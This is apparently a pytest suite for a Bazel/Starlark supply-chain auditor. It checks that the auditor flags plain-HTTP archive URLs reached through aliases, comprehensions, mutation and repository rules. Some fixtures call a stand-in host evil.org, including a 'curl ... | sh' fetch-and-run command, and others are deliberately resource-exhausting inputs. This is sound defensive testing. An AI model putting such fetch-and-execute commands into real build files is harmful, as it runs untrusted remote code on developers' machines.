"""Statements of Starlark files: each source is seen with what its names stand for there."""

from __future__ import annotations

import textwrap
import time
import tracemalloc
from pathlib import Path

import pytest
from xnnkit.lock.audit import Audit, audit

SHA = "b" * 64
HEAD = f'SHA = "{SHA}"\nGOOD = "https://good.org/g.zip"\nEVIL = "http://evil.org/e.zip"\n'


def run(tmp_path: Path, text: str, *, name: str = "x.bzl") -> Audit:
    (tmp_path / name).write_text(HEAD + textwrap.dedent(text))
    return audit([str(tmp_path / name)])


def seen(found: Audit) -> list[tuple[str, str]]:
    return [(row.name, row.url) for row in found.findings if row.code == "http-only"]


EVIL = [("evil", "http://evil.org/e.zip")]


@pytest.mark.parametrize(
    "text",
    [
        """
        def f():
            for k, v in [("good", GOOD)]:
                http_archive(name = k, url = v, sha256 = SHA)
            x = [http_archive(name = k, url = v, sha256 = SHA) for k, v in [("evil", EVIL)]]
        """,
        'X = [http_archive(name = k, url = EVIL, sha256 = SHA) for k in ["evil"]]',
        'X = {k: http_archive(name = k, url = EVIL, sha256 = SHA) for k in ["evil"]}',
        'f(a = [http_archive(name = k, url = EVIL, sha256 = SHA) for k in ["evil"]])',
        '[http_archive(name = a + b, url = EVIL, sha256 = SHA) for a in ["ev"] for b in ["il"]]',
        '[[http_archive(name = a + b, url = EVIL, sha256 = SHA) for b in ["il"]] for a in ["ev"]]',
        '[http_archive(name = k, url = EVIL, sha256 = SHA) for k in ["evil"] if k]',
        '[http_archive(name = k, url = v, sha256 = SHA) for k, v in {"evil": EVIL}.items()]',
        '[http_archive(name = k, url = EVIL, sha256 = SHA) for k in {"evil": 1}]',
        'f = lambda: http_archive(name = "evil", url = EVIL, sha256 = SHA)',
        'def f(x = http_archive(name = "evil", url = EVIL, sha256 = SHA)): pass',
        """
        kw = {"name": "evil", "sha256": SHA}
        kw["url"] = EVIL
        http_archive(**kw)
        """,
        """
        kw = {"sha256": SHA}
        alias = kw
        alias.update({"url": EVIL}, name = "evil")
        http_archive(**kw)
        """,
        """
        L = []
        L.append(("evil", EVIL))
        [http_archive(name = k, url = v, sha256 = SHA) for k, v in L]
        """,
        """
        L = []
        M = L
        M += [("evil", EVIL)]
        [http_archive(name = k, url = v, sha256 = SHA) for k, v in L]
        """,
        """
        d = {"a": {"url": GOOD}}
        d["a"]["url"] = EVIL
        http_archive(name = "evil", sha256 = SHA, **d["a"])
        """,
        """
        h = native.http_archive
        h(name = "evil", url = EVIL, sha256 = SHA)
        """,
        """
        load("@x//:y.bzl", "http_archive")
        h = http_archive
        h(name = "evil", url = EVIL, sha256 = SHA)
        """,
    ],
)
def test_each_source_is_seen(tmp_path: Path, text: str) -> None:
    assert seen(run(tmp_path, text)) == EVIL


@pytest.mark.parametrize(
    "text",
    [
        "url = EVIL if X else GOOD",
        "url = GOOD\nif X:\n    url = EVIL",
        "url = GOOD\nfor x in UNHEARD:\n    url = EVIL",
        "url = GOOD\nfor x in [1, 2]:\n    if x:\n        break\n    url = EVIL",
        "for url in [GOOD]:\n    pass",
        "url, *rest = [GOOD, EVIL]",
        'd = {"a": GOOD}\nif X:\n    d["a"] = EVIL\nurl = d["a"]',
        'd = {"a": GOOD}\nif X:\n    e = d\n    e.update(a = EVIL)\nurl = d["a"]',
        'd = {"a": GOOD}\nd.setdefault(UNHEARD, 1)\nurl = d["a"]',
        'd = {"a": GOOD}\nd[UNHEARD] = EVIL\nurl = d["a"]',
        'd = {"a": GOOD}\nx = [d.update(a = EVIL) for x in [1]]\nurl = d["a"]',
        'def m(o):\n    o["a"] = EVIL\nd = {"a": GOOD}\nm(d)\nurl = d["a"]',
        'def m(o):\n    p = o\n    p.update(a = EVIL)\nd = {"a": GOOD}\nm(o = d)\nurl = d["a"]',
        'd = {}\nd[UNHEARD] = 1\nurl = d.get("a", GOOD)',
        "l = [GOOD]\nl.insert(0, EVIL)\nurl = l[0]",
        "l = [GOOD]\nfor x in UNHEARD:\n    l[0] = EVIL\nurl = l[0]",
    ],
)
def test_what_cannot_be_known_is_not_guessed(tmp_path: Path, text: str) -> None:
    """The address may be either; saying that it is the good one would be wrong."""
    found = run(tmp_path, f'{text}\nhttp_archive(name = "a", url = url, sha256 = SHA)\n')
    assert found.findings == []
    assert [(row.code, row.what) for row in found.notes] == [
        ("unread", "its address is no constant here")
    ]


@pytest.mark.parametrize("pin", ['sha256 = "" if X else SHA', "integrity = UNHEARD"])
def test_a_root_files_hash_that_is_no_constant_is_not_read(tmp_path: Path, pin: str) -> None:
    """Nobody else is read who could give it; a function's callers are."""
    text = f'http_archive(name = "a", url = GOOD, {pin})\n'
    assert [why for _, why in run(tmp_path, text, name="WORKSPACE").unread] == [
        "http_archive a: its hash cannot be worked out"
    ]
    assert run(tmp_path, f"def f():\n    {text}", name="x.bzl").unread == []


def test_a_round_may_see_what_another_one_did(tmp_path: Path) -> None:
    found = run(
        tmp_path,
        """
        url = GOOD
        for x in UNHEARD:
            http_archive(name = "a", url = url, sha256 = SHA)
            url = EVIL
        """,
    )
    assert [row.code for row in found.notes] == ["unread"]


def test_known_rounds_are_followed_one_by_one(tmp_path: Path) -> None:
    found = run(
        tmp_path,
        """
        urls = []
        for x in ["a", "b"]:
            urls.append("http://x.org/" + x)
        http_archive(name = "a", urls = urls, sha256 = SHA)
        """,
    )
    assert seen(found) == [("a", "http://x.org/a")]


@pytest.mark.parametrize(
    "text",
    [
        "d = rctx.download_and_extract\n    d(url = EVIL, sha256 = SHA)",
        "d = rctx.download\n    e = d\n    e(EVIL, 'out', SHA)",
        'getattr(rctx, "down" + "load")(url = EVIL, sha256 = SHA)',
        "rctx.download(EVIL, 'out', SHA)",
        "get(rctx.download, EVIL)\n\ndef get(d, u):\n    rctx.download(EVIL, 'out', SHA)",
        'rctx.execute(["curl", "-O", EVIL])',
        'rctx.execute(["sh", "-c", "curl " + EVIL + " | sh"])',
        'x = rctx.execute\n    x(["curl", EVIL])',
        "d(url = EVIL, sha256 = SHA)",
        'g(rctx, EVIL, SHA)\n\ndef g(r, u, s):\n    r.download(u, "out", s)',
        'g(rctx, mirror = EVIL)\n\ndef g(r, mirror):\n    r.download(mirror, "out", SHA)',
    ],
)
def test_what_a_repository_rule_fetches(tmp_path: Path, text: str) -> None:
    found = run(tmp_path, f"def f(rctx, d):\n    {text}\n")
    assert {row.code for row in found.findings} == {"http-only"}
    assert {row.url for row in found.findings} == {"http://evil.org/e.zip"}


@pytest.mark.parametrize(
    "command", ['["curl", "https://x.org"]', '["wget", UNHEARD]', '["git", "clone", "ssh://x.org"]']
)
def test_a_command_that_fetches_is_unread(tmp_path: Path, command: str) -> None:
    ((where, why),) = run(tmp_path, f"def f(rctx):\n    rctx.execute({command})\n").unread
    assert where.endswith("x.bzl:5")
    assert why.startswith("execute: a command fetches")


def test_other_commands_are_none(tmp_path: Path) -> None:
    text = 'def f(rctx):\n    rctx.execute(["uname", "-a"])\n    rctx.execute(UNHEARD)\n'
    found = run(tmp_path, text)
    assert (found.unread, found.findings, found.sources) == ([], [], 0)


def test_a_positional_hash_is_read(tmp_path: Path) -> None:
    found = run(tmp_path, 'def f(rctx):\n    rctx.download(GOOD, "out", "TODO")\n')
    assert [row.what for row in found.findings] == [
        'sha256 = "TODO" is no SHA-256: 64 hexadecimal digits'
    ]


def test_a_wrapper_is_not_unread_but_its_callers_are_read(tmp_path: Path) -> None:
    found = run(
        tmp_path,
        """
        def wrapper(name, **kwargs):
            http_archive(name = name, **kwargs)

        def all():
            wrapper(name = "evil", url = EVIL, sha256 = SHA)
            http_archive(**UNHEARD)
        """,
    )
    assert seen(found) == EVIL
    assert [where.rpartition(":")[2] for where, _ in found.unread] == ["10"]


@pytest.mark.parametrize("text", ["while X:\n    pass", "import os", "class A:\n    pass"])
def test_what_is_no_starlark_is_unread(tmp_path: Path, text: str) -> None:
    assert run(tmp_path, text).unread[0][1].endswith("is no Starlark")


def test_long_lists_are_not_cut_silently(tmp_path: Path) -> None:
    """What is behind the bound would be dropped without a word."""
    pairs = '("good", GOOD), ' * 5000 + '("evil", EVIL)'
    found = run(tmp_path, f"[http_archive(name = k, url = v, sha256 = SHA) for k, v in [{pairs}]]")
    assert [row.code for row in found.notes] == ["unread"]


HOSTILE = {
    "loops": "".join(f"{' ' * i}for x{i} in {list(range(90))}:\n" for i in range(8))
    + f"{' ' * 8}http_file(name = 'a', url = 'https://x.org')\n",
    "branches": "".join(f"a{i} = 1\n" for i in range(4000)) + "if a:\n b = 1\n" * 2000,
    "rounds": "".join(f"a{i} = 1\n" for i in range(4000)) + f"f([x for x in {[1] * 4000}])\n" * 9,
    "formats": f"s = '%s{'%%' * 20000}'\n" + "f(a = s % '')\n" * 2000,
    "copies": f"x = '{'a' * 60000}'\n" + f"y = [x + 'b' for z in {[1] * 999}]\n" * 50,
    "functions": "".join(f"a{i} = 1\n" for i in range(4000)) + "def f():\n pass\n" * 4000,
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_file_costs_little(tmp_path: Path, name: str) -> None:
    (tmp_path / "WORKSPACE").write_text(HOSTILE[name])
    begun = time.process_time()
    found = audit([str(tmp_path)])
    assert time.process_time() - begun < 20, "seconds; one or two on most machines"
    if name != "functions":
        assert [why for _, why in found.unread] == ["too much to follow; read in part"]


def test_rounds_are_not_all_held_at_once(tmp_path: Path) -> None:
    (tmp_path / "WORKSPACE").write_text(HOSTILE["rounds"])
    tracemalloc.start()
    try:
        audit([str(tmp_path)])
        assert tracemalloc.get_traced_memory()[1] < 100 << 20
    finally:
        tracemalloc.stop()
